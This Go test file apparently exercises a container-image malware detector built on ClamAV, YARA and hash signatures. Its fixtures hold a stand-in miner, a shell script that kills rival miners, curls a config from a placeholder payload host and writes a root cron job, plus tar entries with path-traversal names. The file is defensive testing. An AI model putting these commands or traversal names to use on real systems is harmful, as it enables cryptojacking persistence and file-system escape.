package multiengine_test

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/hex"
	"errors"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"

	"github.com/strata-sec/strata/baselines/multiengine"
	"github.com/strata-sec/strata/detectors"
	dt "github.com/strata-sec/strata/detectors/detectortest"
	"github.com/strata-sec/strata/internal/layers"
)

// needEngines skips under -short only; otherwise the real engines must be
// installed and a missing one fails the test.
func needEngines(t *testing.T) {
	t.Helper()
	if testing.Short() {
		t.Skip("multiengine runs the real clamscan and yara; skipped under -short")
	}
}

func hostFile(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("read host file %s (the fixtures use the host's Debian binaries): %v", p, err)
	}
	return string(b)
}

// fixture is the sample and its parts, built from the host's binaries.
type fixture struct {
	miner, script, config string // malicious files
	base, app             []dt.File
}

func newFixture(t *testing.T) fixture {
	// The stand-in miner: /bin/true plus the strings a miner carries.
	miner := hostFile(t, "/bin/true") + "\x00stratum+tcp://pool.strata-test.invalid:3333 --donate-level=1\x00" +
		"Usage: minerd-test [OPTIONS] -a cryptonight -o URL -u USER -p PASS\x00"
	script := "#!/bin/sh\n# watchdog\npkill -f competing-miner-process-name || true\n" +
		"curl -fsSL http://payload.strata-test.invalid/files/config.json -o /etc/minerd/config.json\n" +
		"echo '* * * * * root /usr/local/bin/update.sh >/dev/null 2>&1' > /etc/cron.d/update\n"
	return fixture{
		miner:  miner,
		script: script,
		config: `{"url": "stratum+tcp://pool.strata-test.invalid:3333", "user": "wallet"}` + "\n",
		base: []dt.File{
			dt.Exec("bin/true", hostFile(t, "/bin/true")), dt.Exec("bin/ls", hostFile(t, "/bin/ls")),
			dt.Exec("bin/cat", hostFile(t, "/bin/cat")), dt.Exec("bin/sh", hostFile(t, "/bin/dash")),
			dt.Text("etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n"),
		},
		app: []dt.File{
			dt.Text("app/README.md", "# app\n\nA small web application used as the benign part of a test image.\n"),
			dt.Exec("usr/local/bin/docker-entrypoint.sh", "#!/bin/sh\nset -e\nif [ \"${1#-}\" != \"$1\" ]; then set -- apache2-foreground \"$@\"; fi\nexec \"$@\"\n"),
		},
	}
}

// sample is the first sighting: base, app, then the malicious layer 2.
func (f fixture) sample(t *testing.T) v1.Image {
	return dt.Image(t, v1.Config{Entrypoint: []string{"/bin/minerd"}},
		dt.Step{CreatedBy: "ADD rootfs.tar /", Files: f.base},
		dt.Run("install app", f.app...),
		dt.Run("install miner", dt.Exec("bin/minerd", f.miner), dt.Exec("usr/local/bin/update.sh", f.script),
			dt.Text("etc/minerd/config.json", f.config), dt.Text("etc/minerd/empty", "")),
	)
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

func learn(t *testing.T, f fixture) multiengine.Signatures {
	t.Helper()
	sigs, err := multiengine.Learn(f.sample(t), []int{2})
	if err != nil {
		t.Fatalf("Learn: %v", err)
	}
	return sigs
}

func newDetector(t *testing.T, sigs multiengine.Signatures, opts ...multiengine.Option) *multiengine.Detector {
	t.Helper()
	d, err := multiengine.New(sigs, opts...)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	t.Cleanup(func() { d.Close() })
	return d
}

func TestLearn(t *testing.T) {
	needEngines(t)
	f := newFixture(t)
	sigs := learn(t, f)
	t.Logf("generated databases:\n%s\n%s\n%s", sigs.ClamAVHSB, sigs.ClamAVNDB, sigs.YaraRules)

	byPath := map[string]multiengine.FileSignature{}
	for _, s := range sigs.Files {
		byPath[s.Path] = s
	}
	if len(sigs.Files) != 3 {
		t.Fatalf("signed files = %d, want 3 (miner, script, config): %+v", len(sigs.Files), sigs.Files)
	}
	if got := byPath["bin/minerd"]; got.Kind != multiengine.KindELF || got.ClamAVBody == "" || got.YaraRule == "" || len(got.Body) < 2 {
		t.Errorf("miner signature: %+v", got)
	}
	if got := byPath["usr/local/bin/update.sh"]; got.Kind != multiengine.KindScript || got.ClamAVBody == "" || len(got.Body) < 2 {
		t.Errorf("script signature: %+v", got)
	}
	if got := byPath["etc/minerd/config.json"]; got.Kind != multiengine.KindOther || got.ClamAVBody != "" || got.YaraRule != "" {
		t.Errorf("config gets a hash signature only: %+v", got)
	}
	if !strings.Contains(strings.Join(sigs.Excluded, "\n"), "etc/minerd/empty: empty file") {
		t.Errorf("empty file not excluded: %q", sigs.Excluded)
	}
	// No body sequence may occur in the benign layers' content.
	var benign bytes.Buffer
	for _, b := range append(f.base, f.app...) {
		benign.WriteString(b.Body + "\x00")
	}
	for _, s := range sigs.Files {
		for _, h := range s.Body {
			b := must(hex.DecodeString(h))
			if len(b) < multiengine.MinBodyBytes || len(b) > multiengine.MaxBodyBytes {
				t.Errorf("%s: body of %d bytes", s.Path, len(b))
			}
			if bytes.Contains(benign.Bytes(), b) {
				t.Errorf("%s: body %q also occurs in the benign layers", s.Path, b)
			}
		}
	}
	for _, want := range []string{byPath["bin/minerd"].SHA256, ".Hash"} {
		if !strings.Contains(sigs.ClamAVHSB, want) {
			t.Errorf("hsb lacks %q:\n%s", want, sigs.ClamAVHSB)
		}
	}
	if n := strings.Count(sigs.ClamAVNDB, "\n"); n != 2 {
		t.Errorf("ndb has %d signatures, want 2:\n%s", n, sigs.ClamAVNDB)
	}
	if !strings.Contains(sigs.YaraRules, "2 of them") {
		t.Errorf("yara rules:\n%s", sigs.YaraRules)
	}

	p := filepath.Join(t.TempDir(), "sigs.json")
	if err := sigs.Save(p); err != nil {
		t.Fatal(err)
	}
	got, err := multiengine.Load(p)
	if err != nil || !reflect.DeepEqual(got, sigs) || got.Digest() != sigs.Digest() {
		t.Errorf("Save/Load round trip changed the database (err %v)", err)
	}
	if again := learn(t, f); again.Digest() != sigs.Digest() {
		t.Errorf("Learn is not deterministic")
	}
	if _, err := multiengine.Learn(f.sample(t), []int{3}); err == nil {
		t.Errorf("Learn accepted an out-of-range layer")
	}
}

// TestLearnEscapesYara: hostile paths and quotes in learned files must give
// rules yara compiles (Learn validates with the real engines).
func TestLearnEscapesYara(t *testing.T) {
	needEngines(t)
	body := "#!/bin/sh\necho \"quoted \\\\ backslash and \\\"escapes\\\" in a long line\" > /dev/null\n" +
		"printf '%s\\n' 'another long line with {braces} and $dollars and \"quotes\"'\n"
	img := dt.Image(t, v1.Config{},
		dt.Run("base", dt.Text("etc/hostname", "x\n")),
		dt.Run("bad", dt.Exec("opt/we\"ird\\na me\x01.sh", body), dt.Exec("opt/plain.sh", body+"# and more to differ\n")))
	sigs, err := multiengine.Learn(img, []int{1})
	if err != nil {
		t.Fatalf("Learn: %v", err)
	}
	if len(sigs.Files) != 2 || sigs.Files[0].YaraRule == "" {
		t.Fatalf("files: %+v", sigs.Files)
	}
}

func TestScan(t *testing.T) {
	needEngines(t)
	f := newFixture(t)
	sigs := learn(t, f)
	d := newDetector(t, sigs, multiengine.WithTempDir(t.TempDir()))

	// One byte changed in the code: every hash misses, every string stays.
	b := []byte(f.miner)
	b[len(b)/3] ^= 0xff
	patched := string(b)
	// One of the two distinctive strings edited: ClamAV's body signature
	// (the longest string) still fires, YARA's "2 of them" no longer does.
	edited := strings.Replace(f.miner, "--donate-level=1", "--donate-level=2", 1)
	tests := []struct {
		name        string
		img         v1.Image
		wantFlagged bool
		wantFired   string // engines_fired
		want2plus   detectors.Decision
		wantBlamed  []int
		wantHidden  bool
	}{
		{name: "first sighting", img: f.sample(t), wantFlagged: true, wantFired: "clamav,sha256,yara",
			want2plus: detectors.Malicious, wantBlamed: []int{2}},
		{name: "moved to another path and layer",
			img: dt.Image(t, v1.Config{},
				dt.Step{CreatedBy: "ADD rootfs.tar /", Files: f.base},
				dt.Run("hide", dt.Exec("usr/lib/x86_64-linux-gnu/.cache/kworker", f.miner)),
				dt.Run("install app", f.app...)),
			wantFlagged: true, wantFired: "clamav,sha256,yara", want2plus: detectors.Malicious, wantBlamed: []int{1}},
		{name: "bytes changed: hash engines miss, body signatures fire",
			img: dt.Image(t, v1.Config{},
				dt.Step{CreatedBy: "ADD rootfs.tar /", Files: f.base},
				dt.Run("install miner", dt.Exec("bin/minerd", patched))),
			wantFlagged: true, wantFired: "clamav,yara", want2plus: detectors.Malicious, wantBlamed: []int{1}},
		{name: "one string edited: only the ClamAV body signature fires",
			img: dt.Image(t, v1.Config{},
				dt.Step{CreatedBy: "ADD rootfs.tar /", Files: f.base},
				dt.Run("install miner", dt.Exec("bin/minerd", edited))),
			wantFlagged: true, wantFired: "clamav", want2plus: detectors.Clean, wantBlamed: []int{1}},
		{name: "only the config: sha256 and ClamAV hash fire",
			img: dt.Image(t, v1.Config{},
				dt.Step{CreatedBy: "ADD rootfs.tar /", Files: f.base},
				dt.Run("cfg", dt.Text("srv/config.json", f.config))),
			wantFlagged: true, wantFired: "clamav,sha256", want2plus: detectors.Malicious, wantBlamed: []int{1}},
		{name: "hidden by a later layer is still scanned",
			img: dt.Image(t, v1.Config{},
				dt.Step{CreatedBy: "ADD rootfs.tar /", Files: f.base},
				dt.Run("drop", dt.Exec("tmp/dummy/update.sh", f.script)),
				dt.Run("rm -rf /tmp/dummy", dt.Whiteout("tmp/dummy"))),
			wantFlagged: true, wantFired: "clamav,sha256,yara", want2plus: detectors.Malicious, wantBlamed: []int{1}, wantHidden: true},
		{name: "benign image", img: dt.Image(t, v1.Config{},
			dt.Step{CreatedBy: "ADD rootfs.tar /", Files: f.base},
			dt.Run("app", append(f.app, dt.Exec("usr/bin/env", hostFile(t, "/usr/bin/env")),
				dt.Text("usr/share/doc/README", hostFile(t, "/usr/share/common-licenses/GPL-3")))...)),
			want2plus: detectors.Clean},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v, err := d.Scan(context.Background(), tt.img)
			if err != nil {
				t.Fatal(err)
			}
			if v.Flagged() != tt.wantFlagged || v.Info["engines_fired"] != tt.wantFired ||
				v.Info["verdict_2plus"] != string(tt.want2plus) || !reflect.DeepEqual(v.BlamedLayers, tt.wantBlamed) {
				t.Errorf("flagged %v fired %q 2+ %s blamed %v; want %v %q %s %v\nfindings: %+v",
					v.Flagged(), v.Info["engines_fired"], v.Info["verdict_2plus"], v.BlamedLayers,
					tt.wantFlagged, tt.wantFired, tt.want2plus, tt.wantBlamed, v.Findings)
			}
			if !tt.wantFlagged && v.Decision != detectors.Clean {
				t.Errorf("decision %s, want clean: %+v", v.Decision, v.Findings)
			}
			for _, fd := range v.Findings {
				if fd.Category != detectors.CategorySignature || fd.Layer < 0 || fd.DiffID == "" || fd.CreatedBy == "" || fd.Path == "" {
					t.Errorf("finding lacks provenance: %+v", fd)
				}
				if fd.Hidden != tt.wantHidden || (tt.wantHidden && fd.RemovedBy != 2) {
					t.Errorf("hidden = %v removed by %d, want %v: %+v", fd.Hidden, fd.RemovedBy, tt.wantHidden, fd)
				}
				if !strings.HasPrefix(fd.Rule, "sha256") && !strings.HasPrefix(fd.Rule, "clamav:Strata.Multiengine.") && !strings.HasPrefix(fd.Rule, "yara:strata_") {
					t.Errorf("rule %q", fd.Rule)
				}
			}
			for _, k := range []string{"engine_clamav", "engine_yara", "cmd_clamav", "cmd_yara", "signatures_digest", "hits_sha256", "hits_clamav", "hits_yara"} {
				if v.Info[k] == "" {
					t.Errorf("Info[%s] missing", k)
				}
			}
			if !strings.Contains(tt.wantFired, "sha256") {
				// The difference: the ClamAV hit is the .ndb body signature only.
				for _, fd := range v.Findings {
					if strings.HasSuffix(fd.Rule, ".Hash") || fd.Rule == "sha256" {
						t.Errorf("hash signature fired on changed bytes: %+v", fd)
					}
				}
			}
		})
	}
}

func TestCache(t *testing.T) {
	needEngines(t)
	f := newFixture(t)
	sigs := learn(t, f)
	cacheDir := t.TempDir()
	d := newDetector(t, sigs, multiengine.WithCacheDir(cacheDir))
	sample := f.sample(t)
	ctx := context.Background()

	first := must(d.Scan(ctx, sample))
	if s := d.Stats(); s.LayersScanned != 3 || s.ClamscanRuns != 3 || s.YaraRuns != 3 {
		t.Fatalf("cold scan: %+v, want 3 layers, one clamscan and one yara each", s)
	}
	// A variant with a dummy layer on top: only that layer is new.
	variant := must(mutate.AppendLayers(sample, dt.Layer(t, dt.Text("dummyfile", "dummy 4711\n"))))
	// Concurrent scans of the same images share the per-layer work.
	var wg sync.WaitGroup
	for range 4 {
		wg.Add(2)
		go func() { defer wg.Done(); must(d.Scan(ctx, sample)) }()
		go func() { defer wg.Done(); must(d.Scan(ctx, variant)) }()
	}
	wg.Wait()
	if s := d.Stats(); s.LayersScanned != 4 || s.ClamscanRuns != 4 || s.YaraRuns != 4 {
		t.Errorf("after cached rescans: %+v, want only the dummy layer scanned", s)
	}
	again := must(d.Scan(ctx, sample))
	if again.Info["layers_cached"] != "3" || !reflect.DeepEqual(again.Findings, first.Findings) {
		t.Errorf("cached verdict differs: %v vs %v", again.Findings, first.Findings)
	}
	// A new detector on the same cache directory reads layers from disk.
	d2 := newDetector(t, sigs, multiengine.WithCacheDir(cacheDir))
	v2 := must(d2.Scan(ctx, variant))
	if s := d2.Stats(); s.LayersScanned != 0 || s.DiskHits != 4 || s.ClamscanRuns != 0 {
		t.Errorf("disk cache: %+v", s)
	}
	if !v2.Flagged() {
		t.Errorf("variant from disk cache not flagged")
	}
	// Other signatures: other cache keys.
	other := sigs
	other.Excluded = append(other.Excluded, "changed")
	d3 := newDetector(t, other, multiengine.WithCacheDir(cacheDir))
	must(d3.Scan(ctx, sample))
	if s := d3.Stats(); s.LayersScanned != 3 {
		t.Errorf("changed signatures reused the cache: %+v", s)
	}
}

// hostileLayer writes a tar with names a naive extractor would follow.
func hostileLayer(t *testing.T, body string, names ...string) v1.Layer {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, n := range names {
		hdr := &tar.Header{Name: n, Typeflag: tar.TypeReg, Mode: 0o755, Size: int64(len(body)), ModTime: dt.Epoch, Format: tar.FormatGNU}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatalf("write %q: %v", n, err)
		}
		io.WriteString(tw, body)
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	return must(tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil }))
}

func TestHostileNames(t *testing.T) {
	needEngines(t)
	f := newFixture(t)
	sigs := learn(t, f)
	tmp := t.TempDir()
	d := newDetector(t, sigs, multiengine.WithTempDir(tmp))
	tag := filepath.Base(tmp)
	escape := "../../../../../../../tmp/strata-escape-" + tag
	abs := "/tmp/strata-abs-" + tag
	odd := "bin/\xff\xfe-miner"
	img := must(mutate.AppendLayers(empty.Image, hostileLayer(t, f.miner, escape, abs, odd)))

	v, err := d.Scan(context.Background(), img)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"/tmp/strata-escape-" + tag, abs} {
		if _, err := os.Lstat(p); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s exists on the host", p)
		}
	}
	left, _ := os.ReadDir(tmp)
	for _, e := range left {
		if !strings.HasPrefix(e.Name(), "multiengine-db-") {
			t.Errorf("left in the temp dir: %s", e.Name())
		}
	}
	got := map[string]bool{}
	escapeReported := false
	for _, fd := range v.Findings {
		if fd.Category == detectors.CategorySignature && fd.Rule == "sha256" {
			got[fd.Path] = true
		}
		if fd.Category == detectors.CategoryNotScanned && fd.Rule == string(layers.IssuePathEscape) && fd.Integrity {
			escapeReported = true
		}
	}
	if !v.Flagged() || !got["tmp/strata-abs-"+tag] || !got[odd] || len(got) != 2 {
		t.Errorf("hits %v, want the absolute and the non-UTF-8 path", got)
	}
	if !escapeReported {
		t.Errorf("the ../ entry is not reported as not scanned: %+v", v.Findings)
	}
}

func TestLimits(t *testing.T) {
	needEngines(t)
	f := newFixture(t)
	sigs := learn(t, f)
	d := newDetector(t, sigs, multiengine.WithMaxFileBytes(1<<10))
	img := dt.Image(t, v1.Config{}, dt.Run("x", dt.Text("big", strings.Repeat("benign ", 1000)), dt.Text("small", "ok\n")))
	v := must(d.Scan(context.Background(), img))
	if v.Decision != detectors.Incomplete || v.Info["verdict_2plus"] != string(detectors.Incomplete) ||
		len(v.Findings) != 1 || v.Findings[0].Category != detectors.CategoryNotScanned || v.Findings[0].Path != "big" {
		t.Errorf("verdict %s %+v, want incomplete with one not-scanned finding for big", v.Decision, v.Findings)
	}
	d = newDetector(t, sigs, multiengine.WithMaxLayerBytes(10))
	v = must(d.Scan(context.Background(), img))
	if v.Decision != detectors.Incomplete || len(v.Findings) != 1 || v.Findings[0].Rule != "layer-bytes-limit" {
		t.Errorf("layer limit: %s %+v", v.Decision, v.Findings)
	}
}

// TestIntegrity: below the threshold, an integrity issue makes both
// verdicts invalid (detectors.Decide), with a finding on its layer.
func TestIntegrity(t *testing.T) {
	needEngines(t)
	f := newFixture(t)
	d := newDetector(t, learn(t, f))
	img := dt.Image(t, v1.Config{}, dt.Run("x", dt.Text("ok", "ok\n"), dt.File{Name: "../up", Body: "u"}))
	v := must(d.Scan(context.Background(), img))
	if v.Decision != detectors.Invalid || v.Info["verdict_2plus"] != string(detectors.Invalid) ||
		len(v.Findings) != 1 || !v.Findings[0].Integrity || v.Findings[0].Layer != 0 {
		t.Errorf("verdict %s (2+: %s) %+v, want invalid with one integrity finding on layer 0", v.Decision, v.Info["verdict_2plus"], v.Findings)
	}
}

func TestMissingEngine(t *testing.T) {
	needEngines(t)
	_, err := multiengine.New(multiengine.Signatures{}, multiengine.WithEngines("/nonexistent/clamscan", ""))
	if err == nil || !errors.Is(err, multiengine.ErrEngineNotFound) || !strings.Contains(err.Error(), "clamscan not found: run make setup") {
		t.Errorf("err = %v", err)
	}
	_, err = multiengine.New(multiengine.Signatures{}, multiengine.WithEngines("", "/nonexistent/yara"))
	if err == nil || !strings.Contains(err.Error(), "yara not found: run make setup") {
		t.Errorf("err = %v", err)
	}
	d := newDetector(t, multiengine.Signatures{})
	if d.Name() != "multiengine" || d.Version() != "1.0.0" {
		t.Errorf("identity %s %s", d.Name(), d.Version())
	}
	// An empty database still scans (yara only; clamscan refuses empty databases).
	v := must(d.Scan(context.Background(), dt.Image(t, v1.Config{}, dt.Run("x", dt.Text("a", "a\n")))))
	if v.Decision != detectors.Clean {
		t.Errorf("empty database: %+v", v)
	}
}
